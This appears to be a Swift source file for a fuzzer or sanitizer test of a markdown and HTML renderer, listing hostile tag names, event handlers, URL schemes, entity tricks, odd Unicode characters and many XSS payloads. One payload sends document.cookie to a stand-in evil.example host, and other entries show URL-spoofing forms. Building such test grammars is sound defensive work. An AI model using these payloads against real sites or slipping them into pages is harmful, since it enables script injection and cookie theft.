extension HostileGrammar {
    static let elements = [
        "script", "img", "svg", "math", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "input",
        "button", "video", "audio", "details", "marquee", "body", "html", "a", "template", "noscript", "xmp",
        "plaintext", "title", "textarea", "frameset", "isindex", "animate", "foreignObject", "mglyph", "select", "b",
        "p", "x-own", "script:x", "scr\u{0}ipt", "ſcript",
    ]

    static let handlers = [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart",
        "onpointerrawupdate", "on\u{0}load", "onwheel",
    ]

    static let addressed = [
        "href", "src", "srcset", "style", "xlink:href", "formaction", "action", "data", "background", "srcdoc",
        "poster", "values", "to", "http-equiv", "content",
    ]

    static let separators = [" ", "/", "\t", "\n", "\u{C}", " / ", "\u{0}", "\u{A0}", "\r", "  "]

    static let tagEnds = [
        ">", "/>", "", " ", "//", ">x</‹n›>", "\n>", "<", ">alert(1)</‹n›>", "></‹n› >", "</‹n›", " x=\"", " x='",
    ]

    static let scripts = [
        "alert(1)", "alert`1`", "\\u0061lert(1)", "eval(atob('YQ=='))", "fetch('//evil.example/'+document.cookie)",
        "</script><script>alert(1)", "&#97;lert(1)", "x:expression(alert(1))", "url(javascript:alert(1))",
    ]

    static let schemes = [
        "javascript", "vbscript", "data", "file", "blob", "ftp", "livescript", "about", "view-source", "jar",
        "filesystem", "intent", "ws", "tel",
    ]

    static let pads = ["", " ", "\u{1}", "\t", "\n", "\u{A0}", "\u{FEFF}", "\u{200B}", "&#32;", "/", "//", "x"]

    static let targets = [
        ":alert(1)", "://%0aalert(1)", ":text/html,<script>alert(1)</script>", ":text/html;base64,PHNjcmlwdD4=",
        "://evil.example/", "&colon;alert(1)", "&#58;alert(1)", "&Tab;:alert(1)", " :alert(1)", "\n:alert(1)",
        ":alert(1)//https://good.example/", ":image/svg+xml,<svg onload=alert(1)>",
    ]

    /// Some of them are good.
    static let webAddresses = [
        "https://good.example/", "http://good.example/a?b=c&d=e#f", "HTTPS://GOOD.EXAMPLE/", "https://bücher.example/",
        "https://good.example/a_(b)_*c*", "https://good.example/&lt;script&gt;", "https://good.example/&quot;x",
        "https://good.example@evil.example/", "https://good.example:x@evil.example/",
        "https://good.example@\u{301}evil.example/", "https://good.example@\u{1F3FB}.evil.example/",
        "https://good.example%40evil.example/", "//evil.example/", "///evil.example/", "\\\\evil.example\\",
        "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "https://", "https:///x", "https://?x",
        "https://good.example/\" onclick=\"alert(1)", "https://good.example/'onclick='alert(1)",
        "https://good.example/><script>alert(1)</script>", "https://good.example/`onclick=`", "https://good.example/)",
        "https://good.example/a(b(c(d(e(f", "https://good.example/\u{200B}", "https://good.example/\u{202E}x",
        "https://good.example/\u{0}", "https://\u{80}/evil.example/", "https://good.example/ \"title\"",
        "https://good.example/ 'a' onclick=x", "https://good.example/\\", "https://\u{202E}elpmaxe.live/",
        "http\u{200D}s://good.example/", "/local", "#x", "?x", "../..", "https://good.example/\u{301}",
        "https:/\u{301}/evil.example/", "https://\u{301}/",
    ]

    static let links = [
        "[‹p›](‹a›)", "![‹p›](‹a›)", "[![‹p›](‹a›)](‹a›)", "<‹a›>", "[x]: ‹a›\n\n[x]", "[‹p›](‹a› \"‹p›\")",
        "[‹p›][‹a›]", "[‹p›](<‹a›>)", "[‹p›](‹a›", "[‹p›](", "[a [b](‹a›) c](‹a›)", "[‹p›]\n(‹a›)", "[](‹a›)",
        "[`x](‹a›)`", "**[‹p›](‹a›)**", "[**x](‹a›)**", "![](‹a›)", "[x](‹a›){onclick=alert(1)}", "‹a›",
    ]

    static let wrappings = [
        "**‹p›**", "*‹p›_", "***‹p›", "`‹p›`", "``‹p›", "\n> ‹p›\n", "\n- ‹p›\n", "\n1. ‹p›\n", "\n999999999. ‹p›\n",
        "\n# ‹p›\n", "\n####### ‹p›\n", "\n‹p›\n===\n", "\n‹p›\n---\n", "\n~~~\n‹p›\n~~~\n", "\n```‹p›\n‹p›\n", "```\n",
        "\n| ‹p› | x |\n|---|---|\n", "\n\n‹p›\n\n", "\n    ‹p›\n", "\\‹p›", "\n- ‹p›\n  - ‹p›\n    > ‹p›\n",
        "\n<div>\n\n‹p›\n\n</div>\n", "<a href=\"‹a›\">‹p›</a>", "<b>‹p›", "\r\n‹p›\r", "~~‹p›~~", "[^1]: ‹p›",
    ]

    static let comments = [
        "<!-- ‹p› -->", "<!--", "-->", "<!-->", "<!--->", "--!>", "<![CDATA[‹p›]]>", "<!doctype html>", "<?x ‹p› ?>",
        "<%= ‹p› %>", "<!--[if IE]>‹p›<![endif]-->", "<!--‹p›--!>", "<!ENTITY x \"‹p›\">", "</!--‹p›>",
    ]

    static let breakers = [
        "\"", "'", "`", "\">", "'>", "\"/>", "</p>", "</title>", "</style>", "</script>", "</a>", "</h1>",
        "</code></pre>", "</textarea>", "--></script>", "]]>", "\n---\n", "---", "...", "{{", "}}", "{{{x}}}", "${x}",
        "#{x}", "<%", "\\", "\\\"", "\": \"", "\ntitle: x", "\nmarker: \"g0\"\n", "\ndraft: false\n", "!!python/x",
        "&anchor", "*alias", "- ", "| ", "> ", "%YAML 1.2", "\t", "\\u003cscript>", "\\n", "\n...\n", "\" onclick=\"",
        "' onclick='", "</", "<", ">", "/>", "},{", "\"}]}", "\u{2028}",
    ]

    static let references = [
        "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&#0000060", "&lt", "&amp;lt;",
        "&colon;", "&Tab;", "&NewLine;", "&#x202e;", "&#0;", "&#xD800;", "&#99999999;", "&bogus;", "&", "&&amp;",
        "&quot;", "&#34;", "&apos;", "&nbsp;", "&ltscript", "&LT;script&GT;",
    ]

    static let words = [
        "word", "Rye", "漢字", "ع", "🦊", "e\u{301}", "ﷺ", "\u{1F468}\u{200D}\u{1F469}", " ", " ", "\n", "\n\n", "1", "a",
    ]

    static let units = [
        "> ", "- ", "[", "![", "(", "*", "_", "**a ", "`", "<", "<b>", "<div>", "</", "&", "[a](", "\\", "#", "1. ",
        "{", "\n> ", "\n  - ", "&lt;", "<!--", "\"", "]", "~", "\u{301}", "\u{202E}", "[a](https://good.example/",
    ]

    /// Controls, separators, marks of direction, what is no character, and what hides within the one before it.
    static let oddScalars: [UInt32] = [
        0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x7F, 0x80, 0x85, 0x9F, 0xA0, 0xAD, 0x0301, 0x034F, 0x061C,
        0x180E, 0x200B, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2066,
        0x2067, 0x2068, 0x2069, 0x20DD, 0xE000, 0xFDD0, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF,
        0x1_F3FB, 0x1_FFFE, 0xE_0001, 0xE_0020, 0xF_0000, 0x10_FFFF,
    ]
}
